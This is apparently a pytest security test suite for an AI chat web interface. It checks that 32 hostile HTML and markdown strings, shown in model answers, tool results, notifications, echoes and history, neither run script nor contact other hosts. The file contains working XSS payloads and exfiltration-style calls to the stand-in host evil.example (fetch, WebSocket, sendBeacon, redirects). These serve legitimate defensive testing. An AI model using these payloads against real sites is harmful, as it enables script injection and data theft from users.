"""What a model, a tool, a watch or a person says in a real browser: 32 hostile texts in 5 places run no script and ask nobody else for anything.

`SAFETY_FULL=1` shows all 32 in each place. Beside them, the same texts put into the same page as they are, without the sanitiser and the policy: there scripts run and requests go out."""
import json

import pytest
from safety.helpers import sample, serving

from llmcam.core.fn_to_schema import function_schema
from llmcam.core.offline import ScriptedModel

EVIL = "https://evil.example"
HOSTILE = [
    "<script>window.hit=1</script>", "<img src=x onerror=window.hit=1>", "<svg/onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>", "<body onload=window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", f"<iframe src={EVIL}></iframe>", "<details open ontoggle=window.hit=1>", "<input autofocus onfocus=window.hit=1>",
    f"<object data={EVIL}/x></object>", f"<embed src={EVIL}/x>", f"<link rel=stylesheet href={EVIL}/x.css>", f"<style>@import '{EVIL}/x.css'; body{{background:url({EVIL}/x)}}</style>",
    f"<base href={EVIL}/>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<form action={EVIL}><button id=go>x</button></form><script>go.click()</script>",
    f"![x]({EVIL}/x.png)", f"![x](//evil.example/x.png)", f"![x][1]\n\n[1]: {EVIL}/x.png", "![x](data:image/svg+xml,<svg onload=window.hit=1>)", f"<img src={EVIL}/x.png>", f"<img srcset='{EVIL}/x.png 1x'>",
    "[x](javascript:window.hit=1)", "[x](JaVaScRiPt&colon;window.hit=1)", "[x](data:text/html,<script>window.hit=1</script>)", "[x](vbscript:x) [y](//evil.example) [z](\\\\evil.example)", "<a href='javascript:window.hit=1'>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>", "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>", f"<video poster={EVIL}/x><source src={EVIL}/y onerror=window.hit=1></video>",
    "</pre></details></article><script>window.hit=1</script>\n\n    </code></pre><img src=x onerror=window.hit=1>", "`</code><script>window.hit=1</script>` | a |\n|-|\n| <img src=x onerror=window.hit=1> |"]
assert len(HOSTILE) == 32


@pytest.fixture
def tab(browser):
    "A page, and what it asked of other hosts or ran."
    context = browser.new_context()
    context.route(lambda url: "127.0.0.1" not in url, lambda route: route.abort())
    def open_tab(url):
        page, bad = context.new_page(), []
        page.set_default_timeout(15_000)
        page.on("request", lambda request: request.url.startswith((url, "data:")) or bad.append(f"asked {request.url}"))
        page.on("dialog", lambda dialog: (bad.append("dialog"), dialog.dismiss()))
        page.on("framenavigated", lambda frame: frame.url.startswith((url, "about:")) or bad.append(f"went to {frame.url}"))
        page.goto(url)
        page.wait_for_selector("#link[data-state=on]")
        return page, bad
    yield open_tab
    context.close()


def speak(text: str) -> str:
    "Say something."
    return SAID[0]

SAID = [""]


def use(page):
    "Do what a person does with what is shown: open it, point at it, follow what looks like ours."
    return page.evaluate("""() => { document.querySelectorAll('.log details').forEach(d => d.open = true);
        document.querySelectorAll('.log a, .toast a').forEach(a => { a.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); a.focus(); if (!/^https?:|^mailto:/.test(a.getAttribute('href') ?? 'x:')) a.click(); });
        return [window.hit ?? null, document.querySelectorAll('#log script, #log iframe, #log style, #log object, #log embed, #log form, #log base, #log meta, #log link, #log svg script').length,
                [...document.querySelectorAll('#log *')].filter(e => [...e.attributes].some(a => /^on|srcdoc|srcset|formaction/i.test(a.name))).length] }""")


def said_by(place, manager, page, text):
    "Have `text` said in one of the places, and wait until it is shown."
    [session_id] = manager
    model, SAID[0] = manager.client, text
    count = lambda selector: page.locator(selector).count()
    selector = {"answer": ".msg.model", "result": ".msg.model", "notification": ".noti", "echo": ".msg.user", "history": ".msg.model"}[place]
    before = count(selector)
    if place == "notification": manager[session_id].notify(f"{text} {before}")
    else:
        model.replies.extend({"answer": [text], "history": [text], "result": [[("speak", {"text": text})], "Done."], "echo": ["Done."]}[place])
        page.fill("#chat-text", text if place == "echo" else "Go on")
        page.keyboard.press("Enter")
    page.wait_for_function("([s, n]) => document.querySelectorAll(s).length > n && document.querySelector('#busy').hidden", arg=[selector, before])


@pytest.mark.parametrize("place", ["answer", "result", "notification", "echo", "history"])
def test_nothing_runs_and_nobody_else_is_asked(tab, place):
    with serving(ScriptedModel(), tools=[function_schema(speak, level="read")]) as (url, manager):
        page, bad = tab(url)
        texts = sample(HOSTILE, 8, seed=len(place))
        for text in texts: said_by(place, manager, page, text)
        if place == "history": page.reload(); page.wait_for_selector("#link[data-state=on]")
        shown = page.locator({"notification": ".noti", "echo": ".msg.user"}.get(place, ".msg.model")).count()
        found = use(page)
        page.wait_for_timeout(200)
        assert shown == len(texts) and found == [None, 0, 0] and bad == [], (found, bad)


def test_weak_the_same_texts_as_they_are(tab):
    "Without our fences most of them work."
    with serving(ScriptedModel(), tools=[]) as (url, manager):
        page, bad = tab(url)
        worked, texts = 0, sample([text for text in HOSTILE if not text.startswith(("[", "<a "))], 8)  # links wait for a click
        for text in texts:
            plain = page.context.new_page()
            asked = []
            plain.on("request", lambda request: asked.append(request.url))
            from markdown_it import MarkdownIt
            plain.set_content("<!doctype html><title>x</title>" + MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
            for _ in range(20):
                plain.wait_for_timeout(25)
                try: hit = plain.evaluate("window.hit ?? null")
                except Exception: hit = "navigated"
                if hit or asked: break
            worked += bool(hit or asked)
            plain.close()
        assert worked >= len(texts) / 2


def test_the_policy_of_the_page_holds_by_itself(tab):
    "A script, a style, a picture and a request that got into the page all the same are refused by the browser."
    with serving(ScriptedModel(), tools=[]) as (url, manager):
        page, bad = tab(url)
        page.evaluate("""async evil => { const add = (tag, more) => { const e = Object.assign(document.createElement(tag), more); document.body.append(e); };
            add('div', {innerHTML: '<img src=x onerror="window.hit=1">'}); add('script', {textContent: 'window.hit=2'}); add('script', {src: evil + '/x.js'});
            add('img', {src: evil + '/x.png'}); add('iframe', {src: evil}); add('link', {rel: 'stylesheet', href: evil + '/x.css'});
            for (const ask of [() => fetch(evil), () => new WebSocket('wss://evil.example'), () => navigator.sendBeacon(evil, 'x')]) try { await ask() } catch {} }""", EVIL)
        page.wait_for_timeout(300)
        assert page.evaluate("window.hit ?? null") is None
        blocked = page.evaluate("performance.getEntriesByType('resource').filter(e => e.name.includes('evil') && e.responseStatus).length")
        assert blocked == 0
